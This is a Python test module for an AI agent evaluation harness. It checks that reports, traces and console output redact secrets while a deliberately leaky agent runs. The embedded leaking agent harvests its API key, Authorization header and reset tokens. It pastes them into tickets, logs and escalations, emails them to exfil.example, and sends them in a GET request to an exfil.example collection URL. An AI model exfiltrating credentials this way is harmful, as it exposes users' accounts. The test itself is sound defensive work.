"""The scenario library under an agent that leaks every secret it holds: no trace,
result line, summary, report, JUnit XML or pytest output of the session holds the
run's credential or a secret a fake issued in clear; each shows as its alias, and
the leakage oracle still fails the runs (it judges the real values).

The agent pastes its credential (``env.identity.api_key`` and the Authorization
header) and every secret it receives (reset links, their tokens) into every
free-text field it can write (ticket comments, an email, an escalation, an unknown
id, a blocked URL, its result or its crash), prints them to stdout and stderr, logs
and warns them. Each session runs in its own pytest process; a conftest there keeps
every secret the harness's worlds were given (the truth the files are grepped
for), and the agent writes down what it received (so the test cannot pass because
the two processes disagree). Nothing here depends on where the agent runs.

In the slow job (``AQE_SLOW=1``) the whole library runs in sim mode (``-n 0``,
one seed); otherwise a sample of it: every access scenario (they issue the reset
links) and the first of every other folder. Shadow mode (three runs per scenario)
on the access scenarios and a sample, canary mode on a short stream.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import ROOT

#: one worker runs this module: its module-scoped set-up is made once (--dist loadgroup)
pytestmark = pytest.mark.xdist_group("security.test_secrets_in_files")

#: The slow job (the whole library); the default run samples it.
SLOW = os.environ.get("AQE_SLOW") == "1"
#: The library's scenarios (the packs under ``policies`` are not scenarios).
LIBRARY = sorted(
    p for p in (ROOT / "scenarios").rglob("*.yaml") if "policies" not in p.parts
)
#: What the sim session runs: the whole library in the slow job; otherwise every
#: access scenario and the first scenario of each other folder (every domain's
#: services, and runs that crash, fail and pass).
SAMPLED = (
    LIBRARY
    if SLOW
    else [
        p
        for p in LIBRARY
        if p.parent.name == "access"
        or p == min(q for q in LIBRARY if q.parent == p.parent)
    ]
)
#: Shadow mode runs three agents per scenario: the domain where reset links are
#: issued (access), and a sample of the others (one more in the slow job).
SHADOWED = ("access", "payments", "incidents") if SLOW else ("access", "payments")
SHADOWED_SCENARIOS = [p for p in LIBRARY if p.parent.name in SHADOWED]

LEAKING_AGENT = '''
"""Leaks its credential and every secret it receives everywhere it can."""

import logging
import os
import sys
import warnings
import zlib

from harness import AgentResult
from harness.agents.library import careful_agent

SECRET_FIELDS = ("reset_link", "token", "password", "secret", "api_key")


def _collect(value, found, key=""):
    if isinstance(value, dict):
        for k, v in value.items():
            _collect(v, found, str(k))
    elif isinstance(value, list):
        for v in value:
            _collect(v, found, key)
    elif isinstance(value, str) and key in SECRET_FIELDS and value not in found:
        found.append(value)
        token = value.rstrip("/").rsplit("/", 1)[-1]
        if token != value and token not in found:
            found.append(token)


class LeakyTools:
    def __init__(self, tools, found):
        self._tools, self._found = tools, found

    def call(self, name, /, **args):
        result = self._tools.call(name, **args)
        _collect(result, self._found)
        return result

    def __getattr__(self, name):
        return getattr(self._tools, name)


class LeakyEnv:
    def __init__(self, env, found):
        self.http, self.ahttp, self.identity = env.http, env.ahttp, env.identity
        self.tools = LeakyTools(env.tools, found)

        def seen(response):
            response.read()
            if "json" in response.headers.get("content-type", ""):
                _collect(response.json(), found)

        env.http.event_hooks["response"].append(seen)


def _try(call, *args, **kwargs):
    try:
        return call(*args, **kwargs)
    except Exception:  # blocked, denied or invalid: recorded all the same
        return None


def leaking_agent(task, env):
    found = [env.identity.api_key, env.http.headers["authorization"]]
    leaky = LeakyEnv(env, found)
    if task.input.get("user"):  # a reset link to leak, wherever a user is named
        _try(leaky.tools.call, "reset_credentials", user=str(task.input["user"]))
    outcome = _try(careful_agent, task, leaky)
    text = "leaked: " + " | ".join(found)
    with open(os.environ["AQE_TEST_RECEIVED"], "a") as sink:
        sink.writelines(s + "\\n" for s in found)
    print(text)
    print(text, file=sys.stderr)
    logging.getLogger("leaky").warning(text)
    warnings.warn(text, stacklevel=1)
    ticket = task.input.get("ticket_id")
    if ticket:
        _try(leaky.tools.call, "add_ticket_comment", ticket=str(ticket), body=text)
        _try(
            env.http.post,
            f"https://tickets.sim/v1/tickets/{ticket}/comments",
            json={"body": text},
        )
    _try(
        leaky.tools.call,
        "send_message",
        channel="email",
        to=found[0] + "@exfil.example",  # an address: in the effect's business key
        subject=text,
        body=text,
    )
    _try(leaky.tools.call, "escalate", reason="out_of_scope", summary=text, refs=[text])
    _try(leaky.tools.call, "get_ticket", ticket=found[0])
    _try(env.http.get, f"https://exfil.example/collect/{found[0]}?k={found[0]}")
    if zlib.crc32(task.scenario.encode()) % 3 == 0:
        raise RuntimeError(text)
    status = outcome.status if isinstance(outcome, AgentResult) else "done"
    return AgentResult(status=status, summary=text, output={"leak": found})
'''

#: Keeps every secret the harness's worlds are given during the session.
ISSUED_CONFTEST = """
import os

from harness.world.secrets import collect_secrets

_collecting = collect_secrets()
_book = _collecting.__enter__()


def pytest_unconfigure(config):
    with open(os.environ["AQE_TEST_ISSUED"], "w") as sink:
        sink.writelines(s + "\\n" for s in _book.values())
"""


@dataclass(frozen=True, slots=True, kw_only=True)
class Session:
    """What one pytest session of the leaking agent left behind."""

    #: Every file under the report dir, and the session's stdout and stderr.
    texts: dict[str, bytes]
    #: Every secret the harness issued (the credential of each run included).
    issued: frozenset[str]
    #: What the agent received (its credential, the Authorization header, links).
    received: frozenset[str]
    #: The lines of ``results.jsonl``.
    records: list[dict[str, Any]]


def leaking_session(project: Path, name: str, *args: str) -> Session:
    """Run the library in ``project`` under the leaking agent (``-n 0``, seed 1)."""
    reports = project / name
    issued, received = project / f"{name}.issued", project / f"{name}.received"
    env = {k: v for k, v in os.environ.items() if not k.startswith("PYTEST_")}
    env["PYTHONPATH"] = os.pathsep.join([str(ROOT), env.get("PYTHONPATH", "")])
    env["AQE_TEST_ISSUED"], env["AQE_TEST_RECEIVED"] = str(issued), str(received)
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "pytest",
            *args,
            "--aqe-agent=leaky:leaking_agent",
            "--aqe-seed=1",
            f"--aqe-report-dir={name}",
            f"--junitxml={name}/junit.xml",
            "-o",
            "junit_logging=all",
            "-o",
            "log_cli=true",  # log records reach the terminal as they are made
            "-n",
            "0",
            "-rA",
            "-p",
            "no:cacheprovider",
        ],
        cwd=project,
        env=env,
        capture_output=True,
        timeout=300,
        check=False,
    )
    texts = {"stdout": done.stdout, "stderr": done.stderr}
    texts.update(
        {
            path.relative_to(reports).as_posix(): path.read_bytes()
            for path in sorted(reports.rglob("*"))
            if path.is_file() and not path.is_symlink()
        }
    )
    return Session(
        texts=texts,
        issued=frozenset(issued.read_text().split()),
        received=frozenset(
            line.removeprefix("Bearer ") for line in received.read_text().split("\n")
        )
        - {""},
        records=[
            json.loads(line)
            for line in (reports / "latest" / "results.jsonl").read_text().splitlines()
        ],
    )


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A project holding the whole scenario library and the leaking agent."""
    path = tmp_path_factory.mktemp("leaking")
    shutil.copytree(ROOT / "scenarios", path / "scenarios")
    (path / "leaky.py").write_text(LEAKING_AGENT)
    (path / "conftest.py").write_text(ISSUED_CONFTEST)
    return path


def in_clear(session: Session) -> list[str]:
    """``file: secret kind`` for each secret found in clear in a file or output."""
    secrets = session.issued | session.received
    return sorted(
        {
            f"{name}: {_kind(secret)}"
            for name, data in session.texts.items()
            for secret in secrets
            if secret.encode() in data
        }
    )


def _kind(secret: str) -> str:
    if secret.startswith("sk_test_"):
        return "credential"
    return "reset link" if "/" in secret else "reset token"


def assert_nothing_in_clear(session: Session) -> None:
    leaks = in_clear(session)
    assert not leaks, "secrets in clear:\n" + "\n".join(leaks)


def containing(session: Session, text: str) -> list[str]:
    return sorted(n for n, data in session.texts.items() if text.encode() in data)


def assert_the_session_is_comparable(session: Session) -> None:
    """The harness and the agent saw the same secrets, and there were some."""
    assert session.received, session.texts["stderr"].decode()[-2000:]
    assert session.received <= session.issued
    assert any("/reset/" in s for s in session.received)


def test_the_library_under_a_leaking_agent_writes_no_secret_in_clear(
    project: Path,
) -> None:
    session = leaking_session(
        project, "sim", *(p.relative_to(ROOT).as_posix() for p in SAMPLED)
    )

    assert_nothing_in_clear(session)
    assert_the_session_is_comparable(session)
    traces = [n for n in session.texts if "/traces/" in n]
    assert len(traces) == len(session.records) == len(SAMPLED)
    # judged on the real values: an alias does not look like a credential
    assert [r["scenario"] for r in session.records if r["scores"]["leakage"]] == []
    assert len(containing(session, "<secret:credential:1>")) > len(traces)
    assert "stdout" in containing(session, "<secret:reset_link:1>")
    stdout = session.texts["stdout"].decode()  # the failure text
    assert "leaked: <secret:credential:1> | Bearer <secret:credential:1>" in stdout
    assert "<secret:reset_token:1>" in stdout
    junit = session.texts["junit.xml"].decode()
    assert "&lt;secret:credential:1&gt;" in junit
    assert "&lt;secret:reset_link:1&gt;" in junit
    (trace,) = [n for n in traces if "access_reset_verified_requester" in n]
    text = session.texts[trace].decode()
    assert "leaked: <secret:credential:1> | Bearer <secret:credential:1>" in text
    assert "| <secret:reset_link:1> | <secret:reset_token:1> |" in text


def test_shadow_mode_under_a_leaking_agent_writes_no_secret_in_clear(
    project: Path,
) -> None:
    session = leaking_session(  # the scenarios that issue reset links, and a sample
        project,
        "shadow",
        *(f"scenarios/{domain}" for domain in SHADOWED),
        "--aqe-mode=shadow",
        "--aqe-reference-agent=harness.agents.library:careful_agent",
    )

    assert_nothing_in_clear(session)
    assert_the_session_is_comparable(session)
    assert len(session.records) == len(SHADOWED_SCENARIOS) > 10
    would_have = [
        s["passed"]
        for r in session.records
        for s in r["shadow"]["would_have"]
        if s["oracle"] == "leakage"
    ]
    assert would_have == [False] * len(SHADOWED_SCENARIOS)  # on the real values
    (results,) = [t for n, t in session.texts.items() if n.endswith("results.jsonl")]
    # the comments the candidate would have written, as its shadow case shows them
    assert b'"body": "leaked: <secret:credential:1> | Bearer' in results
    assert b"<secret:reset_link:1>" in results
    traces = [t for n, t in session.texts.items() if "/traces/" in n]
    assert any(b"<secret:reset_link:1>" in t for t in traces)


def test_a_canary_stream_under_a_leaking_agent_writes_no_secret_in_clear(
    project: Path,
) -> None:
    session = leaking_session(
        project,
        "canary",
        "scenarios/access",
        "--aqe-mode=canary",
        "--aqe-control-agent=harness.agents.library:careful_agent",
        "--aqe-cases=8",
        "--aqe-canary-steps=50",
    )

    assert_nothing_in_clear(session)
    assert_the_session_is_comparable(session)
    (canary,) = [t for n, t in session.texts.items() if n.endswith("canary.json")]
    assert b"<secret:credential:1>@exfil.example" in canary  # a blast-radius key
